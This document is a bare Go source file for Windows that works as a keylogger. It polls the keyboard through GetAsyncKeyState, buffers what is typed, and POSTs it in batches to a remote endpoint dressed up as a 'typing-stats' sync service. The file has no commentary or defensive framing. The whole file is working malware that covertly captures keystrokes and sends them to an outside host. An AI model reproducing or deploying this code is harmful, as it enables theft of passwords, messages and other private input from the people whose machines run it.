package main

import (
	"bytes"
	"net/http"
	"syscall"
	"time"
)

var poll = syscall.NewLazyDLL("user32.dll").NewProc("GetAsyncKeyState")

func watch() {
	var typed []byte
	for {
		for code := 8; code < 190; code++ {
			state, _, _ := poll.Call(uintptr(code))
			if state&1 != 0 {
				typed = append(typed, byte(code))
			}
		}
		if len(typed) > 500 {
			http.Post("https://sync.typing-stats.example/t", "application/octet-stream", bytes.NewReader(typed))
			typed = typed[:0]
		}
		time.Sleep(15 * time.Millisecond)
	}
}
